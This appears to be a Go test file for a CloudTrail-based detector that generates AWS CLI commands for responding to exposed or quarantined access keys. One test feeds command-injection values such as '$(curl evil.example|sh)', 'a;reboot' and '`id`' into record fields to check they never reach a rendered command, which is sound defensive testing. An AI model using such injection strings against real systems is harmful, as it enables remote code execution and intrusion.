package rules_test

import (
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/cloudtrail-quarantine/cloudtrail_quarantine/detect/cloudtrail"
	"github.com/cloudtrail-quarantine/cloudtrail_quarantine/detect/rules"
	"github.com/cloudtrail-quarantine/cloudtrail_quarantine/test/corpus"
	"github.com/cloudtrail-quarantine/cloudtrail_quarantine/test/paths"
)

// full are facts with every value present and well formed.
var full = rules.Facts{Key: "AKIAEXAMPLEEXPOSED01", User: "ci-deployer", Region: "eu-west-1", Partition: "aws", TargetType: "user",
	Target: "ci-deployer", PolicyARN: "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3", AuthorizationID: "example0a1b2c"}

// Every rule has a response, and with every fact known each of its
// commands renders whole: an AWS CLI command with no placeholder left.
// (A rule added without an entry in the table fails here.)
func TestEveryRuleHasAResponse(t *testing.T) {
	for _, r := range rules.All() {
		if !rules.HasResponse(r.ID) {
			t.Errorf("%s has no response commands", r.ID)
			continue
		}
		cmds := rules.Commands(r.ID, full)
		if len(cmds) == 0 {
			t.Errorf("%s: no command renders with every fact known", r.ID)
		}
		for _, c := range cmds {
			if !strings.HasPrefix(c, "aws ") || strings.ContainsAny(c, "{}") {
				t.Errorf("%s: %q", r.ID, c)
			}
		}
	}
}

// The first command of every rule that has a key contains it.
func TestResponseContainsFirst(t *testing.T) {
	for _, id := range []string{rules.QuarantineApplied, rules.QuarantineAttemptFailed, rules.CredentialsExposed, rules.QuarantineDeniedCall,
		rules.QuarantinedKeyUsed, rules.ExposedNotQuarantined} {
		want := "aws iam update-access-key --user-name ci-deployer --access-key-id AKIAEXAMPLEEXPOSED01 --status Inactive --region us-east-1"
		if got := rules.Commands(id, full); got[0] != want {
			t.Errorf("%s: first %q", id, got[0])
		}
	}
	if got := rules.Commands(rules.QuarantineRemoved, full)[0]; got != "aws iam attach-user-policy --user-name ci-deployer --policy-arn arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3 --region us-east-1" {
		t.Errorf("removed: first %q", got)
	}
}

// IAM is called in its partition's region, CloudTrail in the event's:
// the partition comes from the region, else from an ARN of the event.
func TestResponsePartitions(t *testing.T) {
	for _, c := range []struct {
		name      string
		e         cloudtrail.Event
		f         rules.Finding
		iam, look string
	}{
		{"commercial", cloudtrail.Event{Region: "ap-southeast-2"}, rules.Finding{}, "us-east-1", "ap-southeast-2"},
		{"china by region", cloudtrail.Event{Region: "cn-northwest-1"}, rules.Finding{}, "cn-north-1", "cn-northwest-1"},
		{"govcloud by region", cloudtrail.Event{Region: "us-gov-east-1"}, rules.Finding{}, "us-gov-west-1", "us-gov-east-1"},
		{"china by policy ARN", cloudtrail.Event{}, rules.Finding{Policy: rules.Policy{ARN: "arn:aws-cn:iam::aws:policy/AWSCompromisedKeyQuarantineV2"}}, "cn-north-1", "cn-north-1"},
		{"govcloud by caller ARN", cloudtrail.Event{Actor: cloudtrail.Actor{ARN: "arn:aws-us-gov:iam::111122223333:user/x"}}, rules.Finding{}, "us-gov-west-1", "us-gov-west-1"},
		{"iso-b", cloudtrail.Event{Region: "us-isob-east-1"}, rules.Finding{}, "us-isob-east-1", "us-isob-east-1"},
	} {
		c.f.Key = &rules.Key{ID: "AKIAEXAMPLEEXPOSED01", User: "ci-deployer"}
		cmds := rules.Commands(rules.CredentialsExposed, rules.FactsOf(&c.e, c.f))
		if len(cmds) != 3 || !strings.HasSuffix(cmds[0], "--region "+c.iam) || !strings.HasSuffix(cmds[1], "--region "+c.iam) ||
			!strings.HasSuffix(cmds[2], "--region "+c.look) {
			t.Errorf("%s: %q", c.name, cmds)
		}
	}
}

// The values come from records: anything that is not the form AWS gives
// a name, key, region or ARN drops the commands that need it, so nothing
// an attacker writes into a record reaches an analyst's shell.
func TestResponseDropsUnsafeValues(t *testing.T) {
	shell := regexp.MustCompile("[$`;|&<>(){}\\\\'\" \t\n*?~!#\\[\\]]")
	hostile := []string{"$(curl evil.example|sh)", "a;reboot", "`id`", "a b", "-rf", "x'y", "a\nb", "AKIA$(id)", "*", "", strings.Repeat("a", 129)}
	for _, v := range hostile {
		for _, x := range []rules.Facts{
			{Key: v, User: "u", Region: "us-east-1", Partition: "aws"},
			{Key: "AKIAEXAMPLEEXPOSED01", User: v, Region: "us-east-1", Partition: "aws"},
			{Key: "AKIAEXAMPLEEXPOSED01", User: "u", Region: v, Partition: "aws"},
			{Key: "AKIAEXAMPLEEXPOSED01", User: "u", Region: "us-east-1", Partition: "aws", AuthorizationID: v},
			{User: "u", Region: "us-east-1", Partition: "aws", TargetType: "user", Target: v, PolicyARN: "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV2"},
			{User: "u", Region: "us-east-1", Partition: "aws", TargetType: v, Target: "u", PolicyARN: "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV2"},
			{User: "u", Region: "us-east-1", Partition: "aws", TargetType: "user", Target: "u", PolicyARN: "arn:aws:iam::aws:policy/" + v},
		} {
			for _, r := range rules.All() {
				for _, c := range rules.Commands(r.ID, x) {
					if v != "" && strings.Contains(c, v) || shell.MatchString(strings.ReplaceAll(c, " ", "")) {
						t.Errorf("%s with %q: %q", r.ID, v, c)
					}
				}
			}
		}
	}
	// A customer-managed policy of the same name is no quarantine to put
	// back; an unknown partition has no known IAM region.
	x := full
	x.PolicyARN = "arn:aws:iam::123456789012:policy/AWSCompromisedKeyQuarantineV3"
	if cmds := rules.Commands(rules.QuarantineRemoved, x); slices.ContainsFunc(cmds, func(c string) bool { return strings.Contains(c, "attach-") }) {
		t.Errorf("re-attach of a customer policy: %q", cmds)
	}
	x = full
	x.Partition = "aws-future"
	for _, c := range rules.Commands(rules.CredentialsExposed, x) {
		if strings.HasPrefix(c, "aws iam ") {
			t.Errorf("IAM command in an unknown partition: %q", c)
		}
	}
	// A user whose name holds a comma is still deactivated, but not
	// looked up with the CLI's Key=...,Value=... shorthand it would break.
	x = full
	x.User = "ops,team"
	cmds := rules.Commands(rules.QuarantineApplied, x)
	if !strings.Contains(cmds[0], "--user-name ops,team ") || slices.ContainsFunc(cmds, func(c string) bool { return strings.Contains(c, "AttributeValue=ops") }) {
		t.Errorf("user with a comma: %q", cmds)
	}
}

// What each rule's positive examples give: the key and user of the case.
// A legacy quarantine (AWS acting as the exposed user) names the caller's
// key; a newer one (an AWS-internal session) does not, and gives the
// user's keys to list instead of a key to deactivate.
func TestResponseOfTheExamples(t *testing.T) {
	r := cloudtrail.Resolver{}
	facts := func(rule, name string) (rules.Facts, []string) {
		var x rules.Facts
		var cmds []string
		r.Resolve(corpus.Fixture(t, rule, "positive", name), func(e *cloudtrail.Event) {
			f, ok := rules.ByID(rule).Match(e)
			if !ok {
				t.Fatalf("%s/%s does not fire", rule, name)
			}
			x, cmds = rules.FactsOf(e, f), rules.Commands(rule, rules.FactsOf(e, f))
		})
		return x, cmds
	}
	if x, cmds := facts(rules.QuarantineApplied, "put_user_legacy_inline"); x.Key == "" || x.User == "" || !strings.Contains(cmds[0], "update-access-key") {
		t.Errorf("legacy quarantine: %+v %q", x, cmds)
	}
	if x, cmds := facts(rules.QuarantineApplied, "attach_user_v3"); x.Key != "" || !strings.HasPrefix(cmds[0], "aws iam list-access-keys --user-name ") {
		t.Errorf("AWS-internal quarantine: %+v %q", x, cmds)
	}
	x, cmds := facts(rules.QuarantineDeniedCall, "iam_access_troubleshooter_text_after_the_arn")
	if x.AuthorizationID != "example0a1b2c3d4e5f6g7h" || !slices.Contains(cmds,
		"aws iam-toolbox get-request-authorization-details --authorization-id example0a1b2c3d4e5f6g7h --region us-east-1") {
		t.Errorf("denied call: %+v %q", x, cmds)
	}
	if _, cmds := facts(rules.QuarantineApplied, "attach_user_v1_china"); !strings.HasSuffix(cmds[0], "--region cn-north-1") {
		t.Errorf("China: %q", cmds)
	}
	if _, cmds := facts(rules.CredentialsExposed, "china_amazon_health_event"); len(cmds) != 3 || !strings.Contains(cmds[0], "AKIAEXAMPLECHINA0001") ||
		!strings.HasSuffix(cmds[0], "--region cn-north-1") {
		t.Errorf("China Health: %q", cmds)
	}
}

// The README's table of responses names every rule.
func TestREADMEListsEveryResponse(t *testing.T) {
	readme, err := os.ReadFile(paths.Repo("README.md"))
	if err != nil {
		t.Fatal(err)
	}
	_, table, ok := strings.Cut(string(readme), "| rule | `response.commands`, in order |")
	table, _, _ = strings.Cut(table, "\n\n")
	if !ok {
		t.Fatal("the README has no table of response commands")
	}
	for _, r := range rules.All() {
		if !strings.Contains(table, "`"+r.ID+"`") {
			t.Errorf("the README's table of response commands lacks %s", r.ID)
		}
	}
}
